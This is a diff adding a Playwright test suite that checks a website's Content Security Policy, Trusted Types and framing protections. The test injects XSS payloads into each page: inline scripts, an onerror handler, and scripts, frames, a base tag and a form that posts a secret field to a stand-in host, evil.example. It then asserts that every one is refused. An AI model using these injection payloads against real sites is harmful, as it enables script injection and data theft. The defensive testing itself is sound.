@@ -1,0 +1,97 @@
+import { expect, type Page, test } from '@playwright/test'
+import { routesOf } from '../routes.ts'
+import { violations } from './violations.ts'
+
+const EVIL = 'https://evil.example'
+
+/** One route of each kind of page: the first of those that share a folder's page. */
+const kinds = new Map(routesOf().map((route) => [route.replace(/^(\/[^/]+\/)[^/]+\/$/, '$1*'), route]))
+const routes = [...kinds.values(), '/nothing-here/']
+
+/** What somebody who could write into a page would try, as its HTML and by script. */
+const INJECTED = `
+  <script>window.owned = 'inline script'</script>
+  <img id="handler" src="/nothing.png" onerror="window.owned = 'handler'">
+  <script src="${EVIL}/foreign.js"></script>
+  <iframe src="${EVIL}/frame.html"></iframe>
+  <link rel="stylesheet" href="${EVIL}/foreign.css">
+  <object data="${EVIL}/object"></object>
+  <base href="${EVIL}/">
+  <form id="stolen" action="${EVIL}/form" method="post"><input name="secret" value="1"></form>`
+
+/** Everything that reached the other site; nothing may. */
+async function watchEvil(page: Page): Promise<string[]> {
+  const reached: string[] = []
+  await page.route(`${EVIL}/**`, async (route) => {
+    reached.push(route.request().url())
+    await route.fulfill({ status: 200, contentType: 'text/javascript', body: "window.owned = 'foreign script'" })
+  })
+  return reached
+}
+
+const owned = (page: Page) => page.evaluate(() => Reflect.get(window, 'owned'))
+
+test('each kind of page is attacked', () => {
+  expect(routes.length).toBeGreaterThan(11)
+})
+
+for (const route of routes) {
+  test(`${route}: script, handler, foreign script, frame and form target are refused`, async ({ page }) => {
+    const found = await violations(page)
+    const reached = await watchEvil(page)
+    await page.route(`**${route}`, async (request) => {
+      const answer = await request.fetch()
+      const body = (await answer.text()).replace('</body>', `${INJECTED}</body>`)
+      await request.fulfill({ response: answer, body })
+    })
+    await page.goto(route)
+    await expect(page.locator('#stolen')).toBeAttached()
+    const blocked = (pattern: RegExp) => expect.poll(() => found.filter((text) => pattern.test(text))).not.toEqual([])
+    await blocked(/^script-src-elem inline/)
+    await blocked(/^script-src-attr inline/)
+    await blocked(/^script-src-elem https:\/\/evil\.example\/foreign\.js/)
+    await blocked(/^frame-src https:\/\/evil\.example/)
+    await blocked(/^style-src-elem https:\/\/evil\.example/)
+    await blocked(/^base-uri https:\/\/evil\.example/)
+
+    await page.locator('#stolen').evaluate((form) => form instanceof HTMLFormElement && form.submit())
+    await blocked(/^form-action https:\/\/evil\.example\/form/)
+
+    // And by script, as a careless line of our own could do it.
+    const refused = await page.evaluate((evil) => {
+      const attempts = [
+        () => {
+          document.body.innerHTML = '<img src=x onerror=alert(1)>'
+        },
+        () => {
+          document.createElement('script').src = `${evil}/foreign.js`
+        },
+        () => {
+          document.createElement('script').textContent = 'window.owned = 1'
+        },
+        () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {}),
+      ]
+      return attempts.map((attempt) => {
+        try {
+          attempt()
+          return 'passed'
+        } catch (error) {
+          return error instanceof TypeError ? 'refused' : String(error)
+        }
+      })
+    }, EVIL)
+    expect(refused).toEqual(Array(4).fill('refused'))
+    await expect(page.evaluate((evil) => fetch(`${evil}/told`), EVIL)).rejects.toThrow('Failed to fetch')
+
+    expect(await owned(page)).toBeUndefined()
+    expect(reached).toEqual([])
+  })
+}
+
+test('nobody can put a page into a frame', async ({ page, baseURL }) => {
+  await page.route(`${EVIL}/**`, (route) =>
+    route.fulfill({ status: 200, contentType: 'text/html', body: `<iframe src="${baseURL}/contact/"></iframe>` }),
+  )
+  await page.goto(`${EVIL}/`)
+  await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/')
+})
